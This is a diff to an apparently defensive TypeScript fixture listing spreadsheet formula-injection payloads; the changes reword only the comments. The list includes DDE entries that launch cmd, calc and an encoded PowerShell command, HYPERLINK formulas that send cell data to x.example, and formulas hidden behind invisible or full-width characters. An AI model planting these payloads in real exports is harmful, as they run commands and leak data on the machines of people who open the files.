@@ -1,11 +1,11 @@
-/** What people have put into a cell so that a spreadsheet would run it. A hundred, each in a name of at most 64 letters. */
+/** A hundred known payloads that make a spreadsheet run a cell, each a name of at most 64 characters. */
 export const payloads: readonly string[] = [
-  // Plain formulas, by each of the four beginnings.
+  // Plain formulas, with each of the four leading characters.
   ['=1+1', '=A1', '=SUM(1,1)', '=2+5+cmd', '=IF(1=1,"a","b")', '=ROW()', '==1', '=', "='a'!A1", '=-1'],
   ['+1+1', '+A1', '+SUM(1,1)', '+', '++1', '+1-800-555-0100', '+cmd', '+HYPERLINK("http://x.example")'],
   ['-2+3', '-A1', '-SUM(1,1)', '-', '--1', '-1', '-cmd', "-2+3+cmd|' /C calc'!A0"],
   ['@SUM(1,1)', '@A1', '@', '@@x', '@cmd', "@SUM(1+9)*cmd|' /C calc'!A0"],
-  // Programs started over DDE.
+  // Programs started through DDE.
   [
     "=cmd|' /C calc'!A0",
     "=cmd|'/C powershell -e AAAA'!A1",
@@ -18,7 +18,7 @@ export const payloads: readonly string[] = [
     '=DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
     "=10+20+cmd|' /C calc'!A0",
   ],
-  // Data carried out of the sheet.
+  // Data exfiltrated from the sheet.
   [
     '=HYPERLINK("http://x.example?l="&A1,"Error")',
     '=hyperlink("http://x.example/a")',
@@ -32,14 +32,14 @@ export const payloads: readonly string[] = [
     '=INDIRECT("A"&ROW())',
     '=EXEC("calc")',
   ],
-  // A tab, a carriage return or a line feed before it, or alone.
+  // A tab, a carriage return or a line feed, in front or alone.
   ['\t=1+1', '\t', '\t\t=A1', '\tcmd', '\r=1+1', '\r', '\r\n=1+1', '\rcmd', '\n=1+1', '\n', '\n\n@A1', '\r\n'],
-  // Blanks and what cannot be seen before it.
+  // Blanks and invisible characters in front.
   [' =1+1', '   +1', '\u00a0=1+1', '\u2003-1', '\u3000@A1', '\u200b=1+1', '\ufeff=1+1', '\u2060+1', '\u00ad=1'],
   ['\u200e=1+1', '\u202e=1+1', ' \t =1+1', '\u000b=1', '\f=2', '\u1680=1', '\u205f-1'],
-  // The same signs in full width.
+  // The same characters in full width.
   ['＝1+1', '＋1', '－1', '＠SUM(1)', ' ＝A1', "＝cmd|' /C calc'!A0"],
-  // Ways out of the cell, with a formula behind them.
+  // Escapes from the cell, followed by a formula.
   [
     '",=1+1,"',
     '"\r\n=1+1',
